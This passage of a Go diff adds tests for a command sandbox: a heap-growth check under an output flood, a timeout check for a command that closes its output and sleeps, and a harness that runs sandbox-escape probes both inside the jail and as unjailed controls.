+				time.Sleep(10 * time.Millisecond)
+			}
+		}()
+		cmd.Run()
+		<-sampled
+		total = buf.Len()
+		sample()
+		buf.Reset()
+	}
+	growth := int64(peak.Load()) - int64(before.HeapAlloc)
+	t.Logf("jailed=%v flood total=%d MiB, heap growth=%d KiB", jailed, total>>20, growth>>10)
+	if jailed && total < floodBound {
+		t.Errorf("flood delivered only %d bytes; the bound is not exercised", total)
+	}
+	return growth > floodBound
+}
+
+// runClosedStdout: a command that closes its output and keeps running
+// must still settle at its timeout. The control shows the same command
+// does not end on its own.
+func runClosedStdout(t *testing.T, b *Broker, e *escapeEnv, jailed bool) bool {
+	script := `exec >&- 2>&-; sleep 300`
+	if jailed {
+		ex, d := b.Clear(context.Background(), CallSpec{
+			Key: StepKey{OpID: "escape", StepID: t.Name()}, Argv: []string{"sh", "-c", script},
+			Dir: e.ws, Env: e.vars(), Policy: e.policy(), Budget: Budget{MaxOutstanding: 1}, Timeout: time.Second,
+		})
+		if d != nil {
+			t.Fatal(d)
+		}
+		for range ex.Output() {
+		}
+		select {
+		case <-ex.Done():
+			if s := ex.Wait(); !s.TimedOut {
+				t.Errorf("settled %+v, want TimedOut", s)
+			}
+			return false
+		case <-time.After(15 * time.Second):
+			return true
+		}
+	}
+	cmd := exec.Command("sh", "-c", script)
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	done := make(chan struct{})
+	go func() { cmd.Wait(); close(done) }()
+	defer func() { cmd.Process.Kill(); <-done }()
+	select {
+	case <-done:
+		return false
+	case <-time.After(2 * time.Second):
+		return true // still running past the timeout the jail enforces
+	}
+}
+
+func TestEscapeSuite(t *testing.T) {
+	t.Setenv(hostSecretName, hostSecretValue)
+	b := New(Options{})
+	t.Logf("%s", b.Available())
+	cases := escapeCases()
+	if len(cases) < 30 {
+		t.Fatalf("escape suite has %d cases, want at least 30", len(cases))
+	}
+	root := os.Geteuid() == 0
+	for _, c := range cases {
+		if c.rootControl && !root {
+			continue // the unprivileged run covers the cases whose control a non-root user can show
+		}
+		t.Run(c.name, func(t *testing.T) {
+			if runEscape(t, b, c, true) {
+				t.Errorf("ESCAPED: the probe succeeded inside the jail")
+			}
+			if !runEscape(t, b, c, false) {
+				t.Errorf("control failed: the probe does not succeed with the layer absent, so the case proves nothing")
+			}
+		})
+	}
+}
